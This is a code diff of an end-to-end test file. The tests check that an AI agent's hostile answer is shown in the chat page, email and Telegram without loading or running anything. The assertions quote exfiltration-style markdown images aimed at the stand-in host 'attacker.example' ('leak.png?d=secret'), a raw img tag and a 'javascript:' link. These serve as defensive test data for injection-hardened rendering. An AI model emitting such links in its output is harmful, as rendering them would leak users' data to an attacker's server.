@@ -1,8 +1,8 @@
-import type { Browser, Page } from "playwright-core";
-import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import type { Page } from "playwright-core";
+import { describe, expect, test } from "vitest";
 import { signIn as signInApi, waitFor } from "../support/api.ts";
-import { launchBrowser, newPage, signIn } from "../support/browser.ts";
-import { startTestStack, type TestStack } from "../support/stack.ts";
+import { newPage, signIn } from "../support/browser.ts";
+import { browserStack } from "./browser-stack.ts";
 import { simulatorText } from "./simulator-text.ts";
 
 const ATTACKER = "attacker.example";
@@ -99,36 +99,18 @@ function activeContent(page: Page, scope: string): Promise<{ found: string[]; pw
   );
 }
 
-interface InboxMessage {
-  channel: string;
-  to: string;
-  text: string;
-  html: string | null;
-  replyMarkup: { inline_keyboard: { text: string; url: string }[][] } | null;
-}
-
-let stack: TestStack;
-let browser: Browser;
-
-beforeAll(async () => {
-  stack = await startTestStack({ env: { CHAT_REQUESTS_PER_MINUTE: "1000" } });
-  await stack.startWorker();
-  browser = await launchBrowser();
-});
-afterAll(async () => {
-  await browser?.close();
-  await stack?.close();
-});
+/** The stack, a worker and Chromium for this file. */
+const fixture = browserStack();
 
 /** Links Alice's Telegram to CHAT_ID, as pressing START on the deep link does. */
 async function linkAliceTelegram(): Promise<void> {
-  const token = await signInApi(stack.supabaseUrl, "alice@example.com");
-  const link = await fetch(`${stack.appUrl}/api/telegram/link`, {
+  const token = await signInApi(fixture.stack.supabaseUrl, "alice@example.com");
+  const link = await fetch(`${fixture.stack.appUrl}/api/telegram/link`, {
     method: "POST",
     headers: { authorization: `Bearer ${token}` },
   });
   const { url } = (await link.json()) as { url: string };
-  const pressed = await fetch(`${stack.inbox.url}/api/telegram/start`, {
+  const pressed = await fetch(`${fixture.stack.inbox.url}/api/telegram/start`, {
     method: "POST",
     headers: { "content-type": "application/json" },
     body: JSON.stringify({
@@ -145,13 +127,13 @@ describe("an agent's hostile answer loads and runs nothing", () => {
 
   test("the session page shows its images as links, fetches nothing from the attacker and runs nothing", async () => {
     // The simulator answers exactly the payload: the test would prove nothing otherwise.
-    expect(await simulatorText(stack.agentSimUrl, MESSAGE)).toBe(PAYLOAD);
+    expect(await simulatorText(fixture.stack.agentSimUrl, MESSAGE)).toBe(PAYLOAD);
     await linkAliceTelegram();
-    const { page, pageErrors, close } = await newPage(browser);
+    const { page, pageErrors, close } = await newPage(fixture.browser);
     const exposure = await watch(page);
     try {
-      await signIn(page, stack.appUrl, "alice@example.com", "overtime-dev");
-      await page.goto(`${stack.appUrl}/chat`);
+      await signIn(page, fixture.stack.appUrl, "alice@example.com", "overtime-dev");
+      await page.goto(`${fixture.stack.appUrl}/chat`);
       await page.getByTestId("composer-input").fill(MESSAGE);
       await page.getByTestId("mode-select").selectOption("background");
       await page.getByTestId("send-button").click();
@@ -165,6 +147,16 @@ describe("an agent's hostile answer loads and runs nothing", () => {
           .waitFor({ timeout: 30_000 });
         expect(await page.getByTestId("assistant-raw").textContent(), pass).toBe(PAYLOAD);
         const output = page.getByTestId("assistant-output");
+        // The `javascript:` link lost its URL: clicking it does nothing.
+        await output.getByText("click me", { exact: true }).click();
+        expect({ ...(await activeContent(page, ".transcript")), ...exposure }, pass).toEqual({
+          found: [],
+          pwned: null,
+          requests: [],
+          dialogs: [],
+        });
+
+        // Each image is a link the user may open (or a label), in place.
         const leak = output.locator(`a.image-link[href="https://${ATTACKER}/leak.png?d=secret"]`);
         expect(await leak.textContent(), pass).toBe(`Image: x (${ATTACKER})`);
         expect(await leak.getAttribute("target")).toBe("_blank");
@@ -176,12 +168,7 @@ describe("an agent's hostile answer loads and runs nothing", () => {
           1,
         );
         expect(await output.locator("span.image-link", { hasText: "Image: inner" }).count()).toBe(1);
-
-        // The `javascript:` link lost its URL: clicking it does nothing.
-        await output.getByText("click me", { exact: true }).click();
-        expect(await activeContent(page, ".transcript"), pass).toEqual({ found: [], pwned: null });
       }
-      expect(exposure).toEqual({ requests: [], dialogs: [] });
       expect(pageErrors).toEqual([]);
     } finally {
       await close();
@@ -190,24 +177,28 @@ describe("an agent's hostile answer loads and runs nothing", () => {
 
   test("the email and the Telegram message for that answer quote it as text, with nothing to load or run", async () => {
     expect(sessionId).not.toBe("");
-    const sessionUrl = `${stack.appUrl}/sessions/${sessionId}`;
+    const sessionUrl = `${fixture.stack.appUrl}/sessions/${sessionId}`;
     const [email, telegram] = await waitFor(async () => {
-      const all = (await (await fetch(`${stack.inbox.url}/api/messages`)).json()) as InboxMessage[];
+      const all = fixture.stack.inbox.store.messages;
       const email = all.find((message) => message.channel === "email" && message.html?.includes(sessionUrl));
-      const telegram = all.find(
-        (message) => message.replyMarkup?.inline_keyboard[0]?.[0]?.url === sessionUrl,
+      const telegram = all.find((message) =>
+        JSON.stringify(message.replyMarkup ?? null).includes(sessionUrl),
       );
       return email && telegram ? ([email, telegram] as const) : undefined;
     });
 
-    const { page, pageErrors, close } = await newPage(browser);
+    const { page, pageErrors, close } = await newPage(fixture.browser);
     const exposure = await watch(page);
     try {
       await page.setContent(email.html as string, { waitUntil: "load" });
       const shown = (await page.locator("body").textContent()) ?? "";
       expect(shown).toContain(`![x](https://${ATTACKER}/leak.png?d=secret)`);
-      expect(await activeContent(page, "body")).toEqual({ found: [], pwned: null });
-      expect(exposure).toEqual({ requests: [], dialogs: [] });
+      expect({ ...(await activeContent(page, "body")), ...exposure }).toEqual({
+        found: [],
+        pwned: null,
+        requests: [],
+        dialogs: [],
+      });
       expect(pageErrors).toEqual([]);
     } finally {
       await close();
@@ -220,7 +211,6 @@ describe("an agent's hostile answer loads and runs nothing", () => {
     expect(telegram.text).toContain(`![x](https://${ATTACKER}/leak.png?d=secret)`);
     expect(telegram.text).toContain(`<img src="https://${ATTACKER}/raw.png"`);
     // Telegram fetches the first URL in a message for a preview unless the bot turns that off.
-    const sent = stack.inbox.store.messages.find((message) => message.text === telegram.text);
-    expect(sent?.details.linkPreviewDisabled).toBe(true);
+    expect(telegram.details.linkPreviewDisabled).toBe(true);
   });
 });
